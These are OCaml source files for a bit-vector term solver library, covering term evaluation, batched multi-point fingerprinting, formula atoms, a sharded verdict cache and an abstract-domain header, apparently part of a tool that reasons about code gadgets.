     identical children reproduces the same structure) — skipping the
     rebuild keeps sharing and saves allocation on the common
     mostly-unchanged state.  No memo table: structural hashing and
     collision compares on deep terms cost more than the occasional
     re-walk of a shared subterm, and the [==] shortcut already prunes
     unchanged regions without allocating. *)
  let rec go t =
    match t with
    | Var v -> ( match f v with Some t' -> t' | None -> t)
    | Const _ -> t
    | _ ->
        let bin mk a b =
          let a' = go a and b' = go b in
          if a' == a && b' == b then t else mk a' b'
        in
        let un mk a =
          let a' = go a in
          if a' == a then t else mk a'
        in
        (match t with
        | Var _ | Const _ -> t
        | Add (a, b) -> bin mk_add a b
        | Sub (a, b) -> bin mk_sub a b
        | Mul (a, b) -> bin mk_mul a b
        | Neg a -> un mk_neg a
        | Not a -> un mk_not a
        | And (a, b) -> bin mk_and a b
        | Or (a, b) -> bin mk_or a b
        | Xor (a, b) -> bin mk_xor a b
        | Shl (a, b) -> bin mk_shl a b
        | Shr (a, b) -> bin mk_shr a b
        | Sar (a, b) -> bin mk_sar a b)
  in
  go

(* Concrete evaluation under a model (variable valuation). *)
let rec eval model t =
  match t with
  | Var v -> model v
  | Const c -> c
  | Add (a, b) -> Int64.add (eval model a) (eval model b)
  | Sub (a, b) -> Int64.sub (eval model a) (eval model b)
  | Mul (a, b) -> Int64.mul (eval model a) (eval model b)
  | Neg a -> Int64.neg (eval model a)
  | Not a -> Int64.lognot (eval model a)
  | And (a, b) -> Int64.logand (eval model a) (eval model b)
  | Or (a, b) -> Int64.logor (eval model a) (eval model b)
  | Xor (a, b) -> Int64.logxor (eval model a) (eval model b)
  | Shl (a, b) ->
    Int64.shift_left (eval model a) (Int64.to_int (Int64.logand (eval model b) 63L))
  | Shr (a, b) ->
    Int64.shift_right_logical (eval model a) (Int64.to_int (Int64.logand (eval model b) 63L))
  | Sar (a, b) ->
    Int64.shift_right (eval model a) (Int64.to_int (Int64.logand (eval model b) 63L))
