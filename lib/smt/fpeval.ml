(* Batched multi-point concrete evaluation (DESIGN.md §17).

   The solver's Tier B screen (DESIGN.md §12) evaluates terms under a
   fixed family of concrete valuations — [points] below — to refute
   queries before the real prover runs.  Each such evaluation used to
   walk the term once PER POINT, per query: a gadget consulted by k
   subsumption probes paid 12k traversals of the same post-condition
   terms.  This module walks each term ONCE, carrying an [int64 array]
   of all 12 lanes, and memoizes the lane vector per structurally
   hash-consed node — the semantic fingerprint primitive.  Consumers
   (Subsume's bucket partitioning, the planner's instantiation
   refutation, Solver's pre-query checks) compare precomputed lanes in
   O(lanes) instead of re-walking terms.

   Soundness is inherited, not asserted: lane k of [eval t] equals
   [Term.eval (point_model points.(k)) t] by construction (the qcheck
   suite pins this), so every lane-based refutation is exactly a
   refutation the per-point evaluation would have produced.  The
   [enabled] toggle (--no-fp) only switches consumers back to the
   per-point walks — verdicts are bit-identical either way.

   The lane memo is domain-local ([Domain.DLS], same discipline as
   [Absdom]): lane vectors are pure functions of term structure, so
   per-domain tables agree wherever they overlap and need no lock.  A
   missing entry costs a recomputation, never changes an answer. *)

(* Tier B valuations.  [Fill c] assigns [c] to every variable (the
   all-zeros and all-ones points double as the real prover's first two
   trials); the pool pins make pointer atoms satisfiable; [Mix s] gives
   each variable a distinct deterministic pseudo-random value (splitmix
   of the seed and the variable name), deterministic and memo-friendly
   by construction.  Moved here from [Solver] so fingerprints and the
   screen share one point family by construction. *)
type point = Fill of int64 | Mix of int64

let points : point array =
  [| Fill 0L; Fill 1L; Fill (-1L);
     Fill 0xAAAAAAAAAAAAAAAAL; Fill 0x5555555555555555L;
     Fill 0x700000L; Fill 0x700100L;
     Fill 8L; Fill 0x100L; Fill 0x1000L;
     Mix 0x9e3779b97f4a7c15L; Mix 0xbf58476d1ce4e5b9L |]

let nlanes = Array.length points
let full_mask = (1 lsl nlanes) - 1

let mix64 z =
  let z = Int64.mul (Int64.logxor z (Int64.shift_right_logical z 30))
            0xbf58476d1ce4e5b9L in
  let z = Int64.mul (Int64.logxor z (Int64.shift_right_logical z 27))
            0x94d049bb133111ebL in
  Int64.logxor z (Int64.shift_right_logical z 31)

let point_model = function
  | Fill c -> fun _ -> c
  | Mix s -> fun v -> mix64 (Int64.logxor s (Int64.of_int (Hashtbl.hash v)))

let on = ref true
let enabled () = !on
let set_enabled b = on := b

(* Refutations answered from fingerprints alone (pair skips in
   Subsume.probe_bucket, closed-term instantiation refutations in the
   planner).  Bumped once per refuted probe BEFORE any memo would be
   consulted, so the tally is a pure function of the probe sequence —
   jobs- and temperature-invariant, reported in [stage_stats] and the
   serve ledger.  The store-level hit/miss split lives in [Incr]
   (temperature, like the solver cache split). *)
let refuted = Atomic.make 0
let note_refuted () = Atomic.incr refuted
let refutations () = Atomic.get refuted

(* A term's value on every lane, plus whether the term is CLOSED (no
   variables): closed terms take the same value under every valuation,
   which is what licenses the planner's equality refutations. *)
type lanes = { lv : int64 array; closed : bool }

let var_lanes v =
  let h = Int64.of_int (Hashtbl.hash v) in
  { lv =
      Array.map
        (function Fill c -> c | Mix s -> mix64 (Int64.logxor s h))
        points;
    closed = false }

let const_lanes c = { lv = Array.make nlanes c; closed = true }

let lift1 f a = { lv = Array.map f a.lv; closed = a.closed }

let lift2 f a b =
  { lv = Array.init nlanes (fun i -> f a.lv.(i) b.lv.(i));
    closed = a.closed && b.closed }

let shift op a b =
  lift2 (fun x y -> op x (Int64.to_int (Int64.logand y 63L))) a b

let memo_key : (Term.t, lanes) Hashtbl.t Domain.DLS.key =
  Domain.DLS.new_key (fun () -> Hashtbl.create 4096)

(* One traversal, all lanes.  The per-operator semantics mirror
   [Term.eval] exactly — including the shift-amount masking — so lane k
   is [Term.eval (point_model points.(k)) t] node for node. *)
let rec eval_node (t : Term.t) : lanes =
  match t with
  | Term.Var v -> var_lanes v
  | Term.Const c -> const_lanes c
  | Term.Add (a, b) -> lift2 Int64.add (eval a) (eval b)
  | Term.Sub (a, b) -> lift2 Int64.sub (eval a) (eval b)
  | Term.Mul (a, b) -> lift2 Int64.mul (eval a) (eval b)
  | Term.Neg a -> lift1 Int64.neg (eval a)
  | Term.Not a -> lift1 Int64.lognot (eval a)
  | Term.And (a, b) -> lift2 Int64.logand (eval a) (eval b)
  | Term.Or (a, b) -> lift2 Int64.logor (eval a) (eval b)
  | Term.Xor (a, b) -> lift2 Int64.logxor (eval a) (eval b)
  | Term.Shl (a, b) -> shift Int64.shift_left (eval a) (eval b)
  | Term.Shr (a, b) -> shift Int64.shift_right_logical (eval a) (eval b)
  | Term.Sar (a, b) -> shift Int64.shift_right (eval a) (eval b)

and eval (t : Term.t) : lanes =
  match t with
  | Term.Var _ | Term.Const _ -> eval_node t
  | _ -> (
    let tbl = Domain.DLS.get memo_key in
    match Hashtbl.find_opt tbl t with
    | Some v -> v
    | None ->
      let v = eval_node t in
      Hashtbl.add tbl t v;
      v)

(* ----- formula lane masks ----- *)

(* Bit k set <=> the formula HOLDS under lane k's valuation.  The
   per-atom semantics replicate [Formula.eval] (including the sign-flip
   unsigned compare and the pointer predicates), so bit k agrees with
   [Formula.eval ~readable ~writable (point_model points.(k)) f]. *)
let ult a b =
  Int64.compare (Int64.add a Int64.min_int) (Int64.add b Int64.min_int) < 0

let mask2 p a b =
  let la = eval a and lb = eval b in
  let m = ref 0 in
  for k = 0 to nlanes - 1 do
    if p la.lv.(k) lb.lv.(k) then m := !m lor (1 lsl k)
  done;
  !m

let mask1 p t =
  let lt = eval t in
  let m = ref 0 in
  for k = 0 to nlanes - 1 do
    if p lt.lv.(k) then m := !m lor (1 lsl k)
  done;
  !m

let formula_mask ?(readable = fun _ -> true) ?(writable = fun _ -> true)
    (f : Formula.t) : int =
  match f with
  | Formula.True -> full_mask
  | Formula.False -> 0
  | Formula.Eq (a, b) -> mask2 (fun x y -> x = y) a b
  | Formula.Ne (a, b) -> mask2 (fun x y -> x <> y) a b
  | Formula.Slt (a, b) -> mask2 (fun x y -> Int64.compare x y < 0) a b
  | Formula.Sle (a, b) -> mask2 (fun x y -> Int64.compare x y <= 0) a b
  | Formula.Ult (a, b) -> mask2 ult a b
  | Formula.Ule (a, b) -> mask2 (fun x y -> not (ult y x)) a b
  | Formula.Readable t -> mask1 readable t
  | Formula.Writable t -> mask1 writable t

(* Lanes on which EVERY formula holds — nonzero means some screen point
   satisfies the whole conjunction (the Tier B refutation condition,
   and the per-gadget precondition mask). *)
let conj_mask ?readable ?writable (fs : Formula.t list) : int =
  List.fold_left
    (fun m f ->
      if m = 0 then 0 else m land formula_mask ?readable ?writable f)
    full_mask fs

(* Clears the CALLING domain's memo and the refutation tally (the
   bench/test world reset).  Worker-domain memos hold only pure
   functions of term structure, so keeping them is harmless. *)
let reset () =
  Hashtbl.reset (Domain.DLS.get memo_key);
  Atomic.set refuted 0
