(** 64-bit bit-vector terms.

    Stands in for Z3's bit-vector theory (DESIGN.md §2).  Variables are
    identified by NAME: the symbolic executor uses a deterministic naming
    scheme (["rax_0"] for the initial value of rax, ["stk_16"] for the
    stack slot at rsp0+16), so post-conditions of two different gadgets
    with the same behaviour are structurally identical terms — the basis
    of cheap subsumption testing.

    {!simplify} canonicalizes the LINEAR fragment (sums of variables with
    constant coefficients, mod 2{^64}) exactly; gadget semantics are
    overwhelmingly linear, so semantic equality is decidable by
    structural comparison there. *)

type t =
  | Var of string
  | Const of int64
  | Add of t * t
  | Sub of t * t
  | Mul of t * t
  | Neg of t
  | Not of t
  | And of t * t
  | Or of t * t
  | Xor of t * t
  | Shl of t * t
  | Shr of t * t      (** logical right shift *)
  | Sar of t * t      (** arithmetic right shift *)

val to_string : t -> string

module Vset : Set.S with type elt = string

val vars : t -> Vset.t
(** The variables occurring in the term. *)

val vars_fold : ('a -> string -> 'a) -> 'a -> t -> 'a

val size : t -> int
(** Node count. *)

(** {1 Linear normal form} *)

type linear = { lin_const : int64; lin_terms : (string * int64) list }
(** [lin_const + Σ coeff·var], terms sorted by variable name, no zero
    coefficients; arithmetic is mod 2{^64}. *)

val lin_const : int64 -> linear
val lin_add : linear -> linear -> linear
val lin_scale : int64 -> linear -> linear
val lin_neg : linear -> linear

val linearize : t -> linear option
(** View the term as a linear combination, when it is one.  [Not x] is
    linear ([-x - 1]); [Shl x (Const k)] is [2^k · x].  Memoized on the
    interned node (see {!intern}); disable with {!set_memo_enabled}. *)

val of_linear : linear -> t
(** Canonical term for a linear form. *)

(** {1 Construction and simplification} *)

val simplify : t -> t
(** Bottom-up canonicalization: exact on the linear fragment, local
    identities elsewhere ([x^x = 0], [x&x = x], constant folding...).
    Sound: the result evaluates identically under every model.
    Memoized on the interned node (see {!intern}) — identical queries
    from any domain share one slot, and a memo hit can never change the
    result (it is a pure function of the key). *)

(** {1 Hash-consing}

    An interning table gives structurally equal terms one physically
    unique representative, so repeated canonicalization (solver-cache
    keys, subsumption probes, planner instantiation) degenerates to a
    table hit and equality checks short-circuit on [==].  Thread-safe;
    shared across domains. *)

val intern : t -> t
(** Canonical representative: [intern a == intern b] iff [a = b]
    (structural equality).  Idempotent; [intern t = t] always holds
    structurally. *)

val memo_enabled : unit -> bool

val set_memo_enabled : bool -> unit
(** [false] restores the seed's uncached [simplify]/[linearize]
    (benchmarks use this for cold-path timings); {!intern} itself stays
    available either way. *)

val memo_stats : unit -> int * int
(** (hits, misses) over the simplify/linearize memo since the last
    {!reset_memo}. *)

val reset_memo : unit -> unit
(** Drop the intern and memo tables and zero the counters. *)

val var : string -> t
val const : int64 -> t

(** Smart constructors (simplify on the way in): *)

val add : t -> t -> t
val sub : t -> t -> t
val mul : t -> t -> t
val neg : t -> t
val lognot : t -> t
val logand : t -> t -> t
val logor : t -> t -> t
val logxor : t -> t -> t
val shl : t -> t -> t
val shr : t -> t -> t
val sar : t -> t -> t

val equal : t -> t -> bool
(** Structural equality after canonicalization (complete on the linear
    fragment; sound but incomplete elsewhere — see
    {!Solver.prove_equal}). *)

val subst : (string -> t option) -> t -> t
(** Replace variables via the function; unmapped variables stay. *)

val subst_cached : (string -> t option) -> t -> t
(** [subst_cached f] fixes the mapping and returns a closure equal to
    [subst f] pointwise, with a private memo shared across calls — for
    compositional summarization, where one post-state is substituted
    into every term of a suffix summary.  Simultaneous (images are
    never re-traversed), hence capture-avoiding by construction.  The
    closure is not thread-safe; keep one per worker. *)

(** {1 Stable binary serialization}

    Persistent-store encoding (DESIGN.md §11): a deterministic postorder
    DAG walk, so the bytes are a function of term {e structure} alone —
    interned and non-interned copies of a term serialize identically,
    and subterms shared within one writer are written once.  Terms are
    re-{!intern}ed on read.  One writer/reader pair spans one store
    entry; readers raise [Gp_util.Store.Bin.Truncated] on malformed
    input (the store's checksums make that unreachable for intact
    files). *)
module Ser : sig
  type writer

  val writer : unit -> writer

  val put : writer -> Buffer.t -> t -> unit
  (** Append any not-yet-written node definitions, then a reference. *)

  type reader

  val reader : unit -> reader

  val get : reader -> string -> int ref -> t
  (** Consume node definitions up to the next reference; the reader
      must see entries in the order the paired writer emitted them. *)
end

val eval : (string -> int64) -> t -> int64
(** Concrete evaluation under a valuation.  Shift counts are taken
    mod 64, as on hardware. *)
