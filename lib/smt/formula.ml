(* Atomic constraints over bit-vector terms.

   [Readable]/[Writable] implement the paper's POINTER constraint type
   (§IV-B): a term must evaluate to an address in a readable/writable
   region.  The solver discharges them by binding free variables to
   addresses from a caller-supplied pool of controlled memory. *)

type t =
  | True
  | False
  | Eq of Term.t * Term.t
  | Ne of Term.t * Term.t
  | Slt of Term.t * Term.t   (* signed < *)
  | Sle of Term.t * Term.t
  | Ult of Term.t * Term.t   (* unsigned < *)
  | Ule of Term.t * Term.t
  | Readable of Term.t
  | Writable of Term.t

let to_string = function
  | True -> "true"
  | False -> "false"
  | Eq (a, b) -> Printf.sprintf "%s == %s" (Term.to_string a) (Term.to_string b)
  | Ne (a, b) -> Printf.sprintf "%s != %s" (Term.to_string a) (Term.to_string b)
  | Slt (a, b) -> Printf.sprintf "%s <s %s" (Term.to_string a) (Term.to_string b)
  | Sle (a, b) -> Printf.sprintf "%s <=s %s" (Term.to_string a) (Term.to_string b)
  | Ult (a, b) -> Printf.sprintf "%s <u %s" (Term.to_string a) (Term.to_string b)
  | Ule (a, b) -> Printf.sprintf "%s <=u %s" (Term.to_string a) (Term.to_string b)
  | Readable t -> Printf.sprintf "readable(%s)" (Term.to_string t)
  | Writable t -> Printf.sprintf "writable(%s)" (Term.to_string t)

let negate = function
  | True -> False
  | False -> True
  | Eq (a, b) -> Ne (a, b)
  | Ne (a, b) -> Eq (a, b)
  | Slt (a, b) -> Sle (b, a)
  | Sle (a, b) -> Slt (b, a)
  | Ult (a, b) -> Ule (b, a)
  | Ule (a, b) -> Ult (b, a)
  | (Readable _ | Writable _) as f ->
    (* pointer atoms have no useful negation in our fragment *)
    f

let map_terms f = function
  (* physically unchanged inputs return the original formula, so callers
     can detect no-op substitutions with [==] and skip re-simplifying *)
  | (True | False) as x -> x
  | Eq (a, b) as x ->
    let a' = f a and b' = f b in
    if a' == a && b' == b then x else Eq (a', b')
  | Ne (a, b) as x ->
    let a' = f a and b' = f b in
    if a' == a && b' == b then x else Ne (a', b')
  | Slt (a, b) as x ->
    let a' = f a and b' = f b in
    if a' == a && b' == b then x else Slt (a', b')
  | Sle (a, b) as x ->
    let a' = f a and b' = f b in
    if a' == a && b' == b then x else Sle (a', b')
  | Ult (a, b) as x ->
    let a' = f a and b' = f b in
    if a' == a && b' == b then x else Ult (a', b')
  | Ule (a, b) as x ->
    let a' = f a and b' = f b in
    if a' == a && b' == b then x else Ule (a', b')
  | Readable t as x ->
    let t' = f t in
    if t' == t then x else Readable t'
  | Writable t as x ->
    let t' = f t in
    if t' == t then x else Writable t'

let vars = function
  | True | False -> Term.Vset.empty
  | Eq (a, b) | Ne (a, b) | Slt (a, b) | Sle (a, b) | Ult (a, b) | Ule (a, b) ->
    Term.Vset.union (Term.vars a) (Term.vars b)
  | Readable t | Writable t -> Term.vars t

let ult a b =
  (* unsigned compare via flipping the sign bit *)
  Int64.compare (Int64.add a Int64.min_int) (Int64.add b Int64.min_int) < 0

(* Evaluate under a concrete valuation.  [readable]/[writable] decide
   pointer atoms; default to "anything goes" for pure-arithmetic use. *)
let eval ?(readable = fun _ -> true) ?(writable = fun _ -> true) model f =
  let v t = Term.eval model t in
  match f with
  | True -> true
  | False -> false
  | Eq (a, b) -> v a = v b
  | Ne (a, b) -> v a <> v b
  | Slt (a, b) -> Int64.compare (v a) (v b) < 0
  | Sle (a, b) -> Int64.compare (v a) (v b) <= 0
  | Ult (a, b) -> ult (v a) (v b)
  | Ule (a, b) -> not (ult (v b) (v a))
  | Readable t -> readable (v t)
  | Writable t -> writable (v t)

(* ----- stable binary (de)serialization (DESIGN.md §11) ----- *)

module Bin = Gp_util.Store.Bin

let put w b f =
  let atom2 tag x y = Bin.u8 b tag; Term.Ser.put w b x; Term.Ser.put w b y in
  match f with
  | True -> Bin.u8 b 0
  | False -> Bin.u8 b 1
  | Eq (x, y) -> atom2 2 x y
  | Ne (x, y) -> atom2 3 x y
  | Slt (x, y) -> atom2 4 x y
  | Sle (x, y) -> atom2 5 x y
  | Ult (x, y) -> atom2 6 x y
  | Ule (x, y) -> atom2 7 x y
  | Readable t -> Bin.u8 b 8; Term.Ser.put w b t
  | Writable t -> Bin.u8 b 9; Term.Ser.put w b t

let get r s pos =
  let t2 mk =
    let x = Term.Ser.get r s pos in
    let y = Term.Ser.get r s pos in
    mk x y
  in
  match Bin.gu8 s pos with
  | 0 -> True
  | 1 -> False
  | 2 -> t2 (fun x y -> Eq (x, y))
  | 3 -> t2 (fun x y -> Ne (x, y))
  | 4 -> t2 (fun x y -> Slt (x, y))
  | 5 -> t2 (fun x y -> Sle (x, y))
  | 6 -> t2 (fun x y -> Ult (x, y))
  | 7 -> t2 (fun x y -> Ule (x, y))
  | 8 -> Readable (Term.Ser.get r s pos)
  | 9 -> Writable (Term.Ser.get r s pos)
  | _ -> raise Bin.Truncated

let put_list w b fs =
  Bin.int_ b (List.length fs);
  List.iter (put w b) fs

let get_list r s pos =
  let n = Bin.gint s pos in
  if n < 0 then raise Bin.Truncated;
  List.init n (fun _ -> get r s pos)

(* Constant-fold and canonicalize an atom. *)
let simplify f =
  let f = map_terms Term.simplify f in
  match f with
  | Eq (a, b) when a = b -> True
  | Eq (Term.Const x, Term.Const y) -> if x = y then True else False
  | Ne (a, b) when a = b -> False
  | Ne (Term.Const x, Term.Const y) -> if x <> y then True else False
  | Slt (Term.Const x, Term.Const y) -> if Int64.compare x y < 0 then True else False
  | Sle (Term.Const x, Term.Const y) -> if Int64.compare x y <= 0 then True else False
  | Ult (Term.Const x, Term.Const y) -> if ult x y then True else False
  | Ule (Term.Const x, Term.Const y) -> if not (ult y x) then True else False
  | _ -> f
