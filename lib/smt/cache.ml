(* Solver memoization (DESIGN.md "Parallel execution & determinism").

   Subsumption probing re-asks the solver structurally identical
   questions thousands of times: unaligned sliding windows produce
   families of gadgets whose pre/post formulas differ only in address,
   and every pairwise probe inside a bucket repeats the same entailment
   shapes.  A verdict store keyed on the CANONICALIZED formula list
   turns that repetition into hits.

   Keys are compared and hashed STRUCTURALLY (polymorphic equality on
   pure-data keys: formula lists, term pairs).  An earlier string-keyed
   version spent more time printing keys than the average solve costs —
   the hit path must stay far cheaper than a solve or the cache cannot
   pay for itself.

   Correctness contract: the solver answers the canonical form itself
   (not the caller's ordering), so a stored verdict is a pure function
   of the key.  Whichever domain computes an entry first, every later
   lookup — from any domain, under any job count — receives exactly the
   verdict a fresh solve would have produced.  A cache hit can
   therefore never change a verdict; the property suite checks this.

   Thread safety: the table is SHARDED by key hash — 16 independent
   hashtables, each behind its own mutex — so resident-daemon workers
   hammering the memo from many domains contend only when their keys
   collide on a shard, not on one global lock (DESIGN.md §15).
   Computation runs OUTSIDE the shard lock so a slow solve never
   serializes the other domains.  Two domains racing on the same fresh
   key may both compute it — both arrive at the same value, so
   first-write-wins is harmless.  Sharding is invisible in the API:
   first-write-wins, size/reset and the hit/miss counters behave
   exactly like the old single-lock table (the serve suite holds a
   reference implementation against it).  Hit/miss counters are
   process-wide atomics, surfaced through [Api.stage_stats]. *)

let shard_count = 16

type ('k, 'v) shard = {
  s_tbl : ('k, 'v) Hashtbl.t;
  s_lock : Mutex.t;
}

type ('k, 'v) t = {
  shards : ('k, 'v) shard array;
  hits : int Atomic.t;
  misses : int Atomic.t;
  mutable enabled : bool;
}

let create ?(size = 4096) () =
  { shards =
      Array.init shard_count (fun _ ->
          { s_tbl = Hashtbl.create (max 16 (size / shard_count));
            s_lock = Mutex.create () });
    hits = Atomic.make 0;
    misses = Atomic.make 0;
    enabled = true }

(* [Hashtbl.hash] is deterministic on immutable data; the low bits pick
   the shard, so a key's shard is a pure function of its structure. *)
let shard_of c key = c.shards.(Hashtbl.hash key land (shard_count - 1))

let enabled c = c.enabled
let set_enabled c b = c.enabled <- b
let hits c = Atomic.get c.hits
let misses c = Atomic.get c.misses

let length c =
  Array.fold_left
    (fun acc s -> acc + Mutex.protect s.s_lock (fun () -> Hashtbl.length s.s_tbl))
    0 c.shards

let clear c =
  Array.iter
    (fun s -> Mutex.protect s.s_lock (fun () -> Hashtbl.reset s.s_tbl))
    c.shards

let reset c =
  clear c;
  Atomic.set c.hits 0;
  Atomic.set c.misses 0

(* Look up [key]; on a miss compute [f ()] (outside the lock) and
   publish it.  Disabled caches degrade to plain computation. *)
let find_or_add (c : ('k, 'v) t) (key : 'k) (f : unit -> 'v) : 'v =
  if not c.enabled then f ()
  else begin
    let s = shard_of c key in
    match Mutex.protect s.s_lock (fun () -> Hashtbl.find_opt s.s_tbl key) with
    | Some v ->
      Atomic.incr c.hits;
      v
    | None ->
      Atomic.incr c.misses;
      let v = f () in
      Mutex.protect s.s_lock (fun () ->
          if not (Hashtbl.mem s.s_tbl key) then Hashtbl.add s.s_tbl key v);
      v
  end

(* Persistence hooks (DESIGN.md §11).  [export] snapshots the table as
   an association list; [import] merges entries, keeping whatever is
   already present (first-write-wins, same as [find_or_add]).  Importing
   can never change a verdict: stored values are pure functions of their
   canonical keys, so a pre-seeded entry answers exactly what a fresh
   compute would.  Neither touches the hit/miss counters.  Export order
   was never specified (callers sort serialized entries), so walking
   shard by shard changes nothing observable. *)

let export c =
  Array.fold_left
    (fun acc s ->
      Mutex.protect s.s_lock (fun () ->
          Hashtbl.fold (fun k v l -> (k, v) :: l) s.s_tbl acc))
    [] c.shards

let import c entries =
  List.iter
    (fun (k, v) ->
      let s = shard_of c k in
      Mutex.protect s.s_lock (fun () ->
          if not (Hashtbl.mem s.s_tbl k) then Hashtbl.add s.s_tbl k v))
    entries

(* ----- canonical formula keys ----- *)

(* Canonical form of a query: simplify every atom, then sort (and
   dedup — a conjunction is a set).  Simplification is idempotent and
   sorting is order-insensitive, so canonicalization is idempotent and
   permutations of the same query share a key; the property suite
   checks both. *)
let canon (fs : Formula.t list) : Formula.t list =
  List.sort_uniq compare (List.map Formula.simplify fs)
