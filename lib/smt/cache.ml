(* Solver memoization (DESIGN.md "Parallel execution & determinism").

   Subsumption probing re-asks the solver structurally identical
   questions thousands of times: unaligned sliding windows produce
   families of gadgets whose pre/post formulas differ only in address,
   and every pairwise probe inside a bucket repeats the same entailment
   shapes.  A verdict store keyed on the CANONICALIZED formula list
   turns that repetition into hits.

   Keys are compared and hashed STRUCTURALLY (polymorphic equality on
   pure-data keys: formula lists, term pairs).  An earlier string-keyed
   version spent more time printing keys than the average solve costs —
   the hit path must stay far cheaper than a solve or the cache cannot
   pay for itself.

   Correctness contract: the solver answers the canonical form itself
   (not the caller's ordering), so a stored verdict is a pure function
   of the key.  Whichever domain computes an entry first, every later
   lookup — from any domain, under any job count — receives exactly the
   verdict a fresh solve would have produced.  A cache hit can
   therefore never change a verdict; the property suite checks this.

   Thread safety: the table is guarded by a mutex; computation runs
   OUTSIDE the lock so a slow solve never serializes the other domains.
   Two domains racing on the same fresh key may both compute it — both
   arrive at the same value, so first-write-wins is harmless.  Hit/miss
   counters are atomics, surfaced through [Api.stage_stats]. *)

type ('k, 'v) t = {
  tbl : ('k, 'v) Hashtbl.t;
  lock : Mutex.t;
  hits : int Atomic.t;
  misses : int Atomic.t;
  mutable enabled : bool;
}

let create ?(size = 4096) () =
  { tbl = Hashtbl.create size;
    lock = Mutex.create ();
    hits = Atomic.make 0;
    misses = Atomic.make 0;
    enabled = true }

let enabled c = c.enabled
let set_enabled c b = c.enabled <- b
let hits c = Atomic.get c.hits
let misses c = Atomic.get c.misses
let length c = Mutex.protect c.lock (fun () -> Hashtbl.length c.tbl)

let clear c = Mutex.protect c.lock (fun () -> Hashtbl.reset c.tbl)

let reset c =
  clear c;
  Atomic.set c.hits 0;
  Atomic.set c.misses 0

(* Look up [key]; on a miss compute [f ()] (outside the lock) and
   publish it.  Disabled caches degrade to plain computation. *)
let find_or_add (c : ('k, 'v) t) (key : 'k) (f : unit -> 'v) : 'v =
  if not c.enabled then f ()
  else begin
    match Mutex.protect c.lock (fun () -> Hashtbl.find_opt c.tbl key) with
    | Some v ->
      Atomic.incr c.hits;
      v
    | None ->
      Atomic.incr c.misses;
      let v = f () in
      Mutex.protect c.lock (fun () ->
          if not (Hashtbl.mem c.tbl key) then Hashtbl.add c.tbl key v);
      v
  end

(* Persistence hooks (DESIGN.md §11).  [export] snapshots the table as
   an association list; [import] merges entries, keeping whatever is
   already present (first-write-wins, same as [find_or_add]).  Importing
   can never change a verdict: stored values are pure functions of their
   canonical keys, so a pre-seeded entry answers exactly what a fresh
   compute would.  Neither touches the hit/miss counters. *)

let export c = Mutex.protect c.lock (fun () -> Hashtbl.fold (fun k v acc -> (k, v) :: acc) c.tbl [])

let import c entries =
  Mutex.protect c.lock (fun () ->
      List.iter
        (fun (k, v) -> if not (Hashtbl.mem c.tbl k) then Hashtbl.add c.tbl k v)
        entries)

(* ----- canonical formula keys ----- *)

(* Canonical form of a query: simplify every atom, then sort (and
   dedup — a conjunction is a set).  Simplification is idempotent and
   sorting is order-insensitive, so canonicalization is idempotent and
   permutations of the same query share a key; the property suite
   checks both. *)
let canon (fs : Formula.t list) : Formula.t list =
  List.sort_uniq compare (List.map Formula.simplify fs)
