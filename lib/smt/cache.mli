(** Solver verdict memoization (DESIGN.md "Parallel execution &
    determinism").

    Subsumption probing re-asks the solver structurally identical
    questions thousands of times; a verdict store keyed on the
    canonicalized formula list turns that repetition into hits.  Keys
    are compared and hashed structurally, so they must be pure data
    (formula lists, term pairs — no functions, no cyclic values).

    Correctness contract: the solver answers the canonical form itself,
    so a stored verdict is a pure function of the key — a cache hit can
    never change a verdict (the property suite checks this).  Safe to
    share across domains: the table is sharded by key hash behind
    per-shard mutexes (DESIGN.md §15), computation runs outside the
    lock, and a race on a fresh key at worst computes the same value
    twice.  Sharding is invisible here — first-write-wins, size/reset
    and the counters behave exactly like a single-lock table. *)

type ('k, 'v) t

val create : ?size:int -> unit -> ('k, 'v) t

val enabled : ('k, 'v) t -> bool

val set_enabled : ('k, 'v) t -> bool -> unit
(** A disabled cache degrades {!find_or_add} to plain computation
    (benchmarks use this for cold-cache timings). *)

val hits : ('k, 'v) t -> int

val misses : ('k, 'v) t -> int

val length : ('k, 'v) t -> int

val clear : ('k, 'v) t -> unit
(** Drop all entries, keeping the hit/miss counters. *)

val reset : ('k, 'v) t -> unit
(** Drop all entries and zero the counters. *)

val find_or_add : ('k, 'v) t -> 'k -> (unit -> 'v) -> 'v
(** Look up the key; on a miss compute (outside the lock) and publish
    first-write-wins. *)

val export : ('k, 'v) t -> ('k * 'v) list
(** Snapshot the table (unspecified order — sort serialized entries for
    deterministic store bytes). *)

val import : ('k, 'v) t -> ('k * 'v) list -> unit
(** Merge entries, keeping existing bindings (first-write-wins).  Values
    are pure functions of their keys, so importing a store can never
    change a verdict, only skip recomputing it.  Counters untouched. *)

val canon : Formula.t list -> Formula.t list
(** Canonical form of a query: simplify every atom, then sort and dedup
    (a conjunction is a set).  Idempotent; permutations of the same
    query share a canonical form.  The canonical list itself is the
    memo key for {!Solver.check}. *)
