(* Known-bits × wrapped-interval abstract domain over terms (DESIGN.md §12).

   Tier A of the solver's screening front-end: every term is mapped to a
   sound over-approximation of its value set under ALL variable
   valuations — a pair of

   - KNOWN BITS: a mask of bit positions whose value is the same in every
     concretization, with the values themselves ([kval] is meaningful
     only under [kmask]); tracks alignment and masking facts that flow
     through the bitwise operators obfuscators love ([And]/[Or]/[Shl]);
   - an UNSIGNED INTERVAL [lo, hi] (inclusive, no wrap-around: an
     operation that may wrap widens to top), which tracks constants and
     magnitude facts through the arithmetic operators.

   Soundness invariant (the property suite checks it): for every term
   [t] and every model [m], [Term.eval m t] is a member of [of_term t].
   Everything else here is a consequence: two terms with DISJOINT
   abstract values differ under every valuation, and an atom that
   evaluates to a definite truth value abstractly has that truth value
   under every valuation.  The domain never claims more than it can
   prove — comparisons answer [Maybe] whenever the approximation is too
   coarse — which is what lets the solver use it as a screen that only
   ever short-circuits verdicts the fall-through path would reproduce.

   Transfer functions are deliberately modest: exact on fully-known
   operands, trailing-known-bits propagation through [Add]/[Sub]/[Mul]
   (carries can only corrupt bit positions at or above the first unknown
   bit), classic known-bits algebra for the bitwise operators, and
   monotone interval bounds where no wrap is possible.  Precision beyond
   that buys nothing: the screen's job is to kill the OBVIOUS
   refutations cheaply, not to replace the solver.

   Evaluation is memoized per hash-consed node ([Term.intern], same
   discipline as [Term.simplify]'s memo): abstract values are pure
   functions of term structure (variables are top), so the table is
   shared process-wide and a hit can never change an answer. *)

type t = {
  kmask : int64;  (* bit set => that bit is known in every concretization *)
  kval : int64;   (* known bits' values; kval land kmask = kval *)
  lo : int64;     (* unsigned lower bound, inclusive *)
  hi : int64;     (* unsigned upper bound, inclusive; lo <=u hi always *)
}

